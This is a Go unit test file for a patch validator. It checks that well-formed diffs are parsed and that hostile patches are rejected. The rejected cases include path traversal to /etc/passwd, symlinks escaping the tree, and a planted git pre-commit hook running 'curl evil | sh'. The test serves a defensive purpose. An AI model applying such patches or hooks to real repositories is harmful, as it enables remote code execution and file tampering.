package diff

import (
	"errors"
	"reflect"
	"strings"
	"testing"
)

const modifyPatch = `diff --git a/src/app.py b/src/app.py
index 1111111..2222222 100644
--- a/src/app.py
+++ b/src/app.py
@@ -1,3 +1,3 @@
 def f():
-    return 1
+    return 2
 
`

func TestCheck(t *testing.T) {
	cases := []struct {
		name    string
		patch   string
		want    []string
		wantErr error
		errHas  string
	}{
		{"git modify", modifyPatch, []string{"src/app.py"}, nil, ""},
		{"new and deleted files", `diff --git a/new.py b/new.py
new file mode 100644
--- /dev/null
+++ b/new.py
@@ -0,0 +1 @@
+x = 1
diff --git a/old.py b/old.py
deleted file mode 100644
--- a/old.py
+++ /dev/null
@@ -1 +0,0 @@
-x = 1
`, []string{"new.py", "old.py"}, nil, ""},
		{"rename with quoted names", `diff --git "a/dir/na\"me.py" "b/dir/n\303\251w name.py"
similarity index 100%
rename from "dir/na\"me.py"
rename to "dir/n\303\251w name.py"
`, []string{"dir/na\"me.py", "dir/néw name.py"}, nil, ""},
		{"unquoted names with spaces", `diff --git a/my file.py b/my file.py
--- a/my file.py
+++ b/my file.py
@@ -1 +1 @@
-a
+b
`, []string{"my file.py"}, nil, ""},
		{"plain unified diff with time stamps", "--- orig/lib/x.py\t2024-01-01 10:00:00.000000000 +0000\n+++ new/lib/x.py\t2024-01-02 10:00:00.000000000 +0000\n@@ -1 +1 @@\n-a\n+b\n",
			[]string{"lib/x.py"}, nil, ""},
		{"removed and added lines that look like headers", `--- a/q.sql
+++ b/q.sql
@@ -1,2 +1,1 @@
--- a comment
+++ b/not-a-header
-select 1;
`, []string{"q.sql"}, nil, ""},
		{"header-like lines inside a hunk are content", `--- a/q.sql
+++ b/q.sql
@@ -1,2 +1,2 @@
--- a/../../etc/passwd
++++ b/../../etc/passwd
 select 1;
`, []string{"q.sql"}, nil, ""},
		{"preamble text is ignored", "From abc Mon Sep 17 00:00:00 2001\nSubject: fix\n\n" + modifyPatch, []string{"src/app.py"}, nil, ""},
		{"git binary patch", "diff --git a/img.png b/img.png\nnew file mode 100644\nindex 0000000..1111111\nGIT binary patch\nliteral 4\nLcmZQzWMT#Y01f~L\n\nliteral 0\nHcmV?d00001\n\n", []string{"img.png"}, nil, ""},
		{"symlink inside the repository", "diff --git a/link b/link\nnew file mode 120000\n--- /dev/null\n+++ b/link\n@@ -0,0 +1 @@\n+src/app.py\n\\ No newline at end of file\n", []string{"link"}, nil, ""},

		{"symlink mode without names", "--- /dev/null\n+++ /dev/null\nnew mode 120000\n@@ -0,0 +1 @@\n+/etc\n", nil, ErrNotPatch, "no file headers"},
		{"empty", "", nil, ErrNotPatch, "no file headers"},
		{"prose", "Here is my fix: change return 1 to return 2.\n", nil, ErrNotPatch, "no file headers"},
		{"binary junk", "\x7fELF\x02\x01\x01\x00\x00\x00garbage\xff\xfe", nil, ErrNotPatch, "binary"},
		{"hunk without header", "@@ -1 +1 @@\n-a\n+b\n", nil, ErrNotPatch, "without a file header"},
		{"malformed hunk header", "--- a/x\n+++ b/x\n@@ -a +b @@\n", nil, ErrNotPatch, "malformed hunk header"},
		{"plus header alone", "+++ b/x\n@@ -1 +1 @@\n", nil, ErrNotPatch, `"+++"`},
		{"headers without hunks", "diff --git a/x b/x\nindex 1..2 100644\n", nil, ErrNotPatch, "no file headers"},

		{"traversal", "--- a/../../etc/passwd\n+++ b/../../etc/passwd\n@@ -1 +1 @@\n-a\n+b\n", nil, ErrUnsafePatch, `".."`},
		{"traversal in git header", "diff --git a/x b/../x\n--- a/x\n+++ b/../x\n@@ -1 +1 @@\n-a\n+b\n", nil, ErrUnsafePatch, `".."`},
		{"absolute path", "--- /etc/passwd\n+++ /etc/passwd\n@@ -1 +1 @@\n-a\n+b\n", nil, ErrUnsafePatch, "absolute"},
		{"absolute after the prefix", "--- a//etc/passwd\n+++ b//etc/passwd\n@@ -1 +1 @@\n-a\n+b\n", nil, ErrUnsafePatch, "absolute"},
		{"dot git", "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil | sh\n", nil, ErrUnsafePatch, ".git"},
		{"nested dot git, other case", "--- a/sub/.GIT/config\n+++ b/sub/.GIT/config\n@@ -1 +1 @@\n-a\n+b\n", nil, ErrUnsafePatch, ".git"},
		{"rename out", "diff --git a/x b/y\nrename from x\nrename to ../y\n", nil, ErrUnsafePatch, `".."`},
		{"symlink to an absolute path", "diff --git a/etc b/etc\nnew file mode 120000\n--- /dev/null\n+++ b/etc\n@@ -0,0 +1 @@\n+/etc\n\\ No newline at end of file\n", nil, ErrUnsafePatch, "absolute path"},
		{"symlink leading out", "diff --git a/sub/up b/sub/up\nnew file mode 120000\n--- /dev/null\n+++ b/sub/up\n@@ -0,0 +1 @@\n+../../..\n\\ No newline at end of file\n", nil, ErrUnsafePatch, "leads out"},
		{"symlink changed to lead out", "diff --git a/l b/l\nindex 1111111..2222222 120000\n--- a/l\n+++ b/l\n@@ -1 +1 @@\n-x\n\\ No newline at end of file\n+../outside\n\\ No newline at end of file\n", nil, ErrUnsafePatch, "leads out"},
		{"symlink into .git", "diff --git a/h b/h\nnew file mode 120000\n--- /dev/null\n+++ b/h\n@@ -0,0 +1 @@\n+.git/hooks\n", nil, ErrUnsafePatch, ".git"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, err := Check(c.patch)
			if c.wantErr != nil {
				if !errors.Is(err, c.wantErr) || !strings.Contains(err.Error(), c.errHas) {
					t.Fatalf("err = %v, want %v containing %q", err, c.wantErr, c.errHas)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got.Paths, c.want) {
				t.Errorf("paths = %q, want %q", got.Paths, c.want)
			}
		})
	}
}

// TestCheckLinks: the symlinks a patch creates or changes come back with
// their targets, for the applier to resolve inside its tree.
func TestCheckLinks(t *testing.T) {
	patch := modifyPatch + "diff --git a/sub/link b/sub/link\nnew file mode 120000\n--- /dev/null\n+++ b/sub/link\n@@ -0,0 +1 @@\n+../src/app.py\n\\ No newline at end of file\n"
	got, err := Check(patch)
	if err != nil {
		t.Fatal(err)
	}
	want := []Link{{Path: "sub/link", Target: "../src/app.py", Line: 10}}
	if !reflect.DeepEqual(got.Links, want) {
		t.Errorf("links = %+v, want %+v", got.Links, want)
	}
	if got, _ := Check(modifyPatch); got.Links != nil {
		t.Errorf("links of a patch without symlinks = %+v", got.Links)
	}
}
